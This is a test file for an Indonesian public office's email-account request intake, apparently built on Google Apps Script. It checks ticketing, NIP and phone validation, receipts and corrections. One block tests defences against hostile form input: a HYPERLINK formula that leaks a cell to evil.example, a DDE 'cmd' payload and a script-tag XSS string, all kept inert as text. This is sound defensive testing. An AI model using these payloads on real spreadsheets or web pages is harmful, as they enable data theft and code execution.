/**
 * Intake, on the built bundle: a form response becomes one register row with a ticket,
 * the applicant gets a receipt, the first official is told. One office is shared by the tests of
 * the first block (each submits its own application); English gets its own office.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { questionTitle, QUESTIONS } from "../../src/domain/form.js";
import { FormSubmitError } from "gas-emulator";
import {
  act,
  application,
  cellAt,
  cellOf,
  correctionOf,
  createOffice,
  DOMAIN,
  log,
  mailsTo,
  register,
  row,
  sheet,
  submit,
  submitOnly,
  type Office,
  type RegisterRecord,
} from "./harness.js";
import { SHEET_NAMES } from "../../src/workspace/schema.js";
import { catalogued } from "./harness.js";

let office: Office;
beforeAll(async () => {
  office = await createOffice();
});
afterAll(async () => {
  await office.emu.close();
});

/** Submits and returns the new register row (the one whose response row is the submission's). */
async function intake(overrides: Record<string, string>): Promise<RegisterRecord> {
  const { row: responseRow, results } = await submit(office, application(overrides));
  for (const r of results) expect(r.error?.message ?? "").toBe("");
  const rec = register(office).find((r) => r.responseRow === String(responseRow));
  if (!rec) throw new Error(`no register row for response ${responseRow}`);
  return rec;
}

const KADIS = `kadis@${DOMAIN}`;

describe("a valid application", () => {
  let rec: RegisterRecord;
  const email = "budi.santoso@gmail.com";
  beforeAll(async () => {
    rec = await intake({
      "Nama lengkap": "Dr. Ir. H. Budi Santoso, S.T., M.Kom.",
      "NIP / NI PPPK": "198503302010011002",
      "Nomor HP/WhatsApp": "0812-3456-7890",
      "Surel pribadi": email,
    });
  });

  test("is registered with a readable ticket, status baru, at the first stage", () => {
    expect(rec.ticket).toMatch(/^SRL-2611-\d{4}$/);
    expect(rec.status).toBe("baru");
    expect(rec.stageKey).toBe("kadis");
    expect(rec.stage).toBe("Kepala Dinas");
    expect(rec.responsible).toBe(KADIS);
    expect(rec.problems).toBe("");
    expect(rec.receivedAt).toMatch(/^23\/11\/2026 08:0\d$/);
    // The step target of the first stage: 120 working minutes after the request entered it.
    const minutes = (s: string) => {
      const [, h, m] = /(\d\d):(\d\d)$/.exec(s)!;
      return +h! * 60 + +m!;
    };
    expect(rec.dueAt.slice(0, 10)).toBe("23/11/2026");
    expect(minutes(rec.dueAt) - minutes(rec.stageEnteredAt)).toBe(120);
  });

  test("the titles are split from the name", () => {
    expect(rec.fullName).toBe("Dr. Ir. H. Budi Santoso, S.T., M.Kom.");
    expect(rec.name).toBe("Budi Santoso");
    expect(rec.address).toBe(`budi.santoso@${DOMAIN}`);
  });

  test("the NIP is kept as 18 digits of text and the phone is normalised to +62", () => {
    expect(rec.nip).toBe("198503302010011002");
    expect(cellOf(office, rec.ticket, "nip").value).toBe("198503302010011002");
    expect(rec.phone).toBe("+6281234567890");
    expect(cellOf(office, rec.ticket, "phone").value).toBe("+6281234567890");
  });

  test("the receipt names the ticket, what happens next and the service standard", () => {
    const receipts = mailsTo(office, email);
    expect(receipts).toHaveLength(1);
    const m = receipts[0]!;
    // The receipt's fixed wording (the service standard) is what is checked: literal on purpose.
    expect(m.subject).toBe(`Tanda terima permohonan surel dinas \u2013 ${rec.ticket}`);
    expect(m.body).toContain(rec.ticket);
    expect(m.body).toContain("LANGKAH SELANJUTNYA");
    expect(m.body).toContain("Kepala Dinas \u2192 Kepala Bidang e-Government");
    expect(m.body).toContain("STANDAR PELAYANAN");
    expect(m.htmlBody).toContain("Standar pelayanan");
    expect(m.body).toContain("Waktu penyelesaian: 1 hari kerja");
    expect(m.body).toContain("Biaya: tidak dipungut biaya.");
    expect(m.body).toContain(`Pengaduan: Diskominfo Kota Contoh: diskominfo@${DOMAIN}`);
    // The NIP is masked in mail.
    expect(m.body).not.toContain("198503302010011002");
    expect(m.htmlBody).toContain(rec.ticket);
  });

  test("the first official is told, with a link to the row", () => {
    const notices = mailsTo(office, KADIS).filter((m) => m.subject.includes(rec.ticket));
    expect(notices).toHaveLength(1);
    const gid = sheet(office, SHEET_NAMES.register).getSheetId();
    expect(notices[0]!.body).toContain(`#gid=${gid}&range=A${rec._row}`);
    expect(notices[0]!.body).toContain(office.ssId);
    // Nobody else in the chain is told yet.
    expect(mailsTo(office, `kabid.egov@${DOMAIN}`).filter((m) => m.subject.includes(rec.ticket))).toEqual([]);
  });

  test("the reception is the first entry of the ticket's log", () => {
    const entries = log(office).filter((e) => e.ticket === rec.ticket);
    expect(entries).toHaveLength(1);
    expect(entries[0]!).toMatchObject({ action: "diterima", actor: "sistem", to: "baru/kadis" });
    expect(rec.lastLogSeq).toBe(entries[0]!.seq);
  });
});

describe("names, identity numbers and phones", () => {
  test("titles given in their own questions are kept apart from the name", async () => {
    const rec = await intake({
      "Nama lengkap": "Siti Aminah",
      [questionTitle("titlesBefore", "id")]: "Hj.",
      [questionTitle("titlesAfter", "id")]: "S.E., M.M.",
      "NIP / NI PPPK": "199002142015032001",
    });
    expect(rec.name).toBe("Siti Aminah");
    expect(rec.fullName).toBe("Hj. Siti Aminah, S.E., M.M.");
    expect(rec.status).toBe("baru");
  });

  test("a one-word name is a name", async () => {
    const rec = await intake({ "Nama lengkap": "Sukarni", "NIP / NI PPPK": "197805122006042003" });
    expect(rec.name).toBe("Sukarni");
    expect(rec.status).toBe("baru");
    expect(rec.address).toMatch(new RegExp(`^sukarni[^@]*@${DOMAIN.replace(/\./g, "\\.")}$`));
  });

  test("a PPPK number whose digits 13-14 are not a month is accepted as NI PPPK", async () => {
    // Born 1 Jan 1990, appointed 2023, code 21 (not a month), man, serial 001.
    const rec = await intake({
      "Nama lengkap": "Rudi Hartono",
      "Status kepegawaian": "PPPK",
      "NIP / NI PPPK": "199001012023211001",
    });
    expect(rec.status).toBe("baru");
    expect(rec.asnStatus).toBe("PPPK");
    expect(rec.nip).toBe("199001012023211001");
    expect(rec.problems).toBe("");
  });

  test("the same number given as a PNS NIP is not accepted (month 21)", async () => {
    const rec = await intake({
      "Nama lengkap": "Rudi Hartanto",
      "Status kepegawaian": "PNS",
      "NIP / NI PPPK": "199001012023211001",
    });
    expect(rec.status).toBe("perlu perbaikan");
    expect(rec.problems).toMatch(/NIP/);
  });

  test("a non-ASN applicant needs no NIP", async () => {
    const rec = await intake({
      "Nama lengkap": "Dewi Lestari",
      "Status kepegawaian": "Non-ASN",
      "NIP / NI PPPK": "",
    });
    expect(rec.status).toBe("baru");
    expect(rec.asnStatus).toBe("Non-ASN");
    expect(rec.nip).toBe("");
  });

  test.each([
    ["0812 3456 7891", "+6281234567891"],
    ["6281234567892", "+6281234567892"],
    ["+62 812-3456-7893", "+6281234567893"],
  ])("the phone %s is stored as %s", async (typed, stored) => {
    const rec = await intake({
      "Nomor HP/WhatsApp": typed,
      "Surel pribadi": `hp${stored.slice(-4)}@gmail.com`,
    });
    expect(rec.phone).toBe(stored);
  });

  test("a NIP the form's own validation refuses never reaches the register", () => {
    const before = register(office).length;
    expect(() => submitOnly(office, application({ "NIP / NI PPPK": "12345" }))).toThrow(FormSubmitError);
    expect(register(office)).toHaveLength(before);
  });
});

describe("an invalid submission", () => {
  let rec: RegisterRecord;
  const email = "salah.nip@gmail.com";
  beforeAll(async () => {
    // 18 digits (the form accepts the shape), but month 13 is no birth date.
    rec = await intake({
      "Nama lengkap": "Andi Wijaya",
      "NIP / NI PPPK": "198513302010011002",
      "Surel pribadi": email,
    });
  });

  test("is recorded with status perlu perbaikan and the problem, at no stage", () => {
    expect(rec.ticket).toMatch(/^SRL-2611-\d{4}$/);
    expect(rec.status).toBe("perlu perbaikan");
    expect(rec.stageKey).toBe("");
    expect(rec.problems).toContain(
      "Tanggal lahir pada NIP (8 digit pertama: 19851330) bukan tanggal yang sah.",
    );
    // The answers are all kept.
    expect(rec.nip).toBe("198513302010011002");
    expect(rec.name).toBe("Andi Wijaya");
  });

  test("the applicant is told exactly what to correct and how", () => {
    const m = mailsTo(office, email);
    expect(m).toHaveLength(1);
    expect(m[0]!.body).toContain("DATA YANG PERLU DIPERBAIKI");
    expect(m[0]!.body).toContain(
      `isikan nomor tiket ${rec.ticket} pada kolom \u201cNomor tiket sebelumnya\u201d`,
    );
    expect(m[0]!.body).toContain(
      "Tanggal lahir pada NIP (8 digit pertama: 19851330) bukan tanggal yang sah.",
    );
    expect(m[0]!.body).toContain(rec.ticket);
    expect(m[0]!.body).not.toContain("LANGKAH SELANJUTNYA");
  });

  test("no official is asked to act on it", () => {
    const all = [KADIS, `kabid.egov@${DOMAIN}`, `sekdis@${DOMAIN}`];
    for (const who of all)
      expect(mailsTo(office, who).filter((m) => m.subject.includes(rec.ticket))).toEqual([]);
  });

  test("someone else quoting its ticket does not touch it: that is a new request", async () => {
    const stranger = await intake({
      "Nama lengkap": "Orang Lain",
      "NIP / NI PPPK": "197001011995031001",
      "Surel pribadi": "orang.lain@gmail.com",
      [questionTitle("previousTicket", "id")]: rec.ticket,
    });
    expect(stranger.ticket).not.toBe(rec.ticket);
    expect(stranger.problems).toMatch(catalogued("correction.code_missing", { ticket: rec.ticket }));
    const original = row(office, rec.ticket);
    expect(original).toMatchObject({
      status: "perlu perbaikan",
      name: "Andi Wijaya",
      nip: "198513302010011002",
    });
    // The attempt is logged on the request (which does not move) and its address on record is told.
    expect(
      log(office)
        .filter((e) => e.ticket === rec.ticket)
        .map((e) => e.action),
    ).toEqual(["diterima", "perbaikan_ditolak"]);
    expect(mailsTo(office, email).map((m) => m.subject)).toContain(
      `Perbaikan permohonan ${rec.ticket} tidak diterapkan`,
    );
  });

  test("its correction, sent with the ticket through the form, re-enters the chain with history kept", async () => {
    const { results } = await submit(
      office,
      application({
        "Nama lengkap": "Andi Wijaya",
        "NIP / NI PPPK": "198512302010011002",
        "Surel pribadi": email,
        ...correctionOf(office, rec.ticket, email),
      }),
    );
    expect(results.every((r) => r.ok)).toBe(true);
    const after = row(office, rec.ticket);
    expect(register(office).filter((r) => r.name === "Andi Wijaya")).toHaveLength(1);
    expect(after.status).toBe("baru");
    expect(after.stageKey).toBe("kadis");
    expect(after.nip).toBe("198512302010011002");
    expect(after.problems).toBe("");
    const entries = log(office).filter((e) => e.ticket === rec.ticket);
    expect(entries.map((e) => e.action)).toEqual(["diterima", "perbaikan_ditolak", "perbaikan_diterima"]);
    expect(mailsTo(office, KADIS).filter((m) => m.subject.includes(rec.ticket))).toHaveLength(1);
  });
});

describe("hostile text", () => {
  const hostile = {
    Jabatan: '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    [questionTitle("unitName", "id")]: "@SUM(1+1)",
    "Nomor surat permohonan": "+cmd|' /C calc'!A0",
    [questionTitle("proposedUsername", "id")]: "-23",
    "Surel pribadi": "bambang.hostile@gmail.com",
  };
  let rec: RegisterRecord;
  let named: RegisterRecord;
  beforeAll(async () => {
    rec = await intake({ ...hostile, "Nama lengkap": "Bambang Irawan" });
    named = await intake({
      "Nama lengkap": "Joko <script>alert(1)</script>",
      "Surel pribadi": "joko.hostile@gmail.com",
      "NIP / NI PPPK": "198001012005011003",
    });
  });

  const noFormulas = (ticket: string): void => {
    for (const key of ["fullName", "position", "unitName", "requestLetter", "wish"] as const) {
      expect(cellOf(office, ticket, key).formula, key).toBe("");
    }
    expect(cellOf(office, ticket, "position").value).toBe(hostile.Jabatan);
    expect(cellOf(office, ticket, "unitName").value).toBe("@SUM(1+1)");
    expect(String(cellOf(office, ticket, "requestLetter").value)).toMatch(/^\+cmd\|' \/C calc'!A0, /);
  };

  test("stays text in the register", () => {
    expect(rec.status).not.toBe("");
    noFormulas(rec.ticket);
    expect(cellOf(office, named.ticket, "fullName").formula).toBe("");
    expect(String(cellOf(office, named.ticket, "fullName").value)).toMatch(
      /^Joko <script>alert\(1\)<\/script>$/i,
    );
  });

  test("stays text after officials act on the row (the row is written back whole)", async () => {
    expect(rec.status).toBe("baru");
    await act(office, KADIS, rec.ticket, "Teruskan (disposisi)");
    expect(row(office, rec.ticket).stageKey).toBe("kabid");
    noFormulas(rec.ticket);
    // Typed with an apostrophe, the note cell holds formula-like text; the log must keep it text.
    await act(office, `kabid.egov@${DOMAIN}`, rec.ticket, "Tahan", "'=1+1 menunggu surat");
    expect(row(office, rec.ticket).status).toBe("ditahan");
    noFormulas(rec.ticket);
    const entries = log(office);
    const at = entries.map((e) => e.ticket).lastIndexOf(rec.ticket);
    expect(entries[at]!.note).toBe("=1+1 menunggu surat");
    expect(cellAt(office, SHEET_NAMES.log, `H${at + 2}`).formula).toBe("");
  });

  test("is escaped in the HTML mail", () => {
    const [m] = mailsTo(office, "joko.hostile@gmail.com");
    expect(m).toBeDefined();
    expect(m!.htmlBody).not.toMatch(/<script>/i);
    expect(m!.htmlBody).toMatch(/&lt;script&gt;alert\(1\)&lt;\/script&gt;/i);
    const [h] = mailsTo(office, "bambang.hostile@gmail.com");
    expect(h!.htmlBody).toContain("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;klik&quot;)");
  });
});

describe("an office that works in English", () => {
  let en: Office;
  beforeAll(async () => {
    en = await createOffice({ configure: (c) => (c.language = "en") });
  });
  afterAll(async () => {
    await en.emu.close();
  });

  test("asks in English and sends an English receipt", async () => {
    const titles = new Map(QUESTIONS.map((q) => [questionTitle(q.key, "id"), questionTitle(q.key, "en")]));
    const answers: Record<string, string> = {};
    for (const [k, v] of Object.entries(application({ "Surel pribadi": "english@gmail.com" }))) {
      answers[titles.get(k) ?? k] = v;
    }
    answers[questionTitle("status", "en")] = "PNS (civil servant)";
    answers[questionTitle("accountType", "en")] = "Personal";
    answers[questionTitle("statement", "en")] = (await import("../../src/domain/text/index.js")).t(
      "en",
      "choice.statement",
    );
    const { results } = await submit(en, answers);
    expect(results.map((r) => r.error?.message ?? "")).toEqual([""]);
    const [m] = mailsTo(en, "english@gmail.com");
    expect(m).toBeDefined();
    expect(m!.subject).toMatch(/receipt/i);
    expect(m!.body).toMatch(/Service standard/i);
    expect(m!.body).not.toContain("Standar pelayanan");
    const [rec] = register(en);
    expect(rec!.status).toBe("baru");
  });
});
